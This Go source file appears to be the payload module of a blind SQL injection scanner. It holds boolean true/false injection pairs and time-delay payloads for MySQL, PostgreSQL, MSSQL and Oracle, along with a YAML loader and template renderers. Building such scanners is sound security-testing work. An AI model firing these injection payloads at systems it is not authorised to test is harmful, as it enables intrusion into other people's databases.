package blind

import (
	"fmt"
	"math/rand"
	"os"
	"strconv"
	"strings"
	"time"

	"gopkg.in/yaml.v3"
)

// DialectPair is a boolean true/false statement pair for one injection
// context. Templates may use {orig} for the original parameter value, {n}
// and {m} for two different random integers, {s} and {t} for two different
// random strings.
type DialectPair struct {
	Name  string `yaml:"name"`
	True  string `yaml:"true"`
	False string `yaml:"false"`
}

// DelayPayload is a statement that makes the server sleep. Value may use
// {orig} and {delay}, the latter in whole seconds. A zero Delay means the
// analyzer default.
type DelayPayload struct {
	Name  string        `yaml:"name"`
	Value string        `yaml:"value"`
	Delay time.Duration `yaml:"delay"`
}

// Payloads is the payload file layout.
type Payloads struct {
	Differential []DialectPair  `yaml:"differential"`
	Timing       []DelayPayload `yaml:"timing"`
}

// DefaultDialects covers numeric, single quoted and double quoted contexts.
func DefaultDialects() []DialectPair {
	return []DialectPair{
		{Name: "numeric", True: "{orig} AND {n}={n}", False: "{orig} AND {n}={m}"},
		{Name: "string_single", True: "{orig}' AND '{s}'='{s}", False: "{orig}' AND '{s}'='{t}"},
		{Name: "string_double", True: `{orig}" AND "{s}"="{s}`, False: `{orig}" AND "{s}"="{t}`},
	}
}

// DefaultDelayPayloads covers MySQL, PostgreSQL, MSSQL and Oracle.
func DefaultDelayPayloads() []DelayPayload {
	return []DelayPayload{
		{Name: "mysql_numeric", Value: "{orig} AND SLEEP({delay})"},
		{Name: "mysql_string", Value: "{orig}' AND SLEEP({delay})-- -"},
		{Name: "postgresql", Value: "{orig}; SELECT pg_sleep({delay})--"},
		{Name: "postgresql_string", Value: "{orig}'; SELECT pg_sleep({delay})--"},
		{Name: "mssql", Value: "{orig}; WAITFOR DELAY '0:0:{delay}'--"},
		{Name: "mssql_string", Value: "{orig}'; WAITFOR DELAY '0:0:{delay}'--"},
		{Name: "oracle", Value: "{orig} AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{delay})"},
	}
}

// DefaultPayloads returns the built-in payload set.
func DefaultPayloads() Payloads {
	return Payloads{Differential: DefaultDialects(), Timing: DefaultDelayPayloads()}
}

// LoadPayloads reads a YAML payload file. Sections missing from the file
// fall back to the defaults.
func LoadPayloads(path string) (Payloads, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Payloads{}, fmt.Errorf("failed to read payload file: %w", err)
	}

	var p Payloads
	if err := yaml.Unmarshal(data, &p); err != nil {
		return Payloads{}, fmt.Errorf("failed to parse payload file %s: %w", path, err)
	}
	if len(p.Differential) == 0 {
		p.Differential = DefaultDialects()
	}
	if len(p.Timing) == 0 {
		p.Timing = DefaultDelayPayloads()
	}
	for i, d := range p.Differential {
		if d.True == "" || d.False == "" || d.True == d.False {
			return Payloads{}, fmt.Errorf("payload file %s: dialect %d (%q) needs distinct true and false statements", path, i, d.Name)
		}
	}
	for i, d := range p.Timing {
		if d.Value == "" {
			return Payloads{}, fmt.Errorf("payload file %s: timing payload %d (%q) is empty", path, i, d.Name)
		}
	}
	return p, nil
}

// Render expands the pair for the original value orig.
func (d DialectPair) Render(orig string, rng *rand.Rand) (trueValue, falseValue string) {
	n := rng.Intn(8000) + 1000
	m := n + rng.Intn(999) + 1
	s := randomString(rng, 6)
	t := randomString(rng, 6)
	for t == s {
		t = randomString(rng, 6)
	}
	r := strings.NewReplacer(
		"{orig}", orig,
		"{n}", strconv.Itoa(n),
		"{m}", strconv.Itoa(m),
		"{s}", s,
		"{t}", t,
	)
	return r.Replace(d.True), r.Replace(d.False)
}

// Render expands the payload for orig with the given delay.
func (d DelayPayload) Render(orig string, delay time.Duration) string {
	seconds := int(delay.Round(time.Second) / time.Second)
	if seconds < 1 {
		seconds = 1
	}
	return strings.NewReplacer("{orig}", orig, "{delay}", strconv.Itoa(seconds)).Replace(d.Value)
}

const letters = "abcdefghijklmnopqrstuvwxyz"

func randomString(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = letters[rng.Intn(len(letters))]
	}
	return string(b)
}
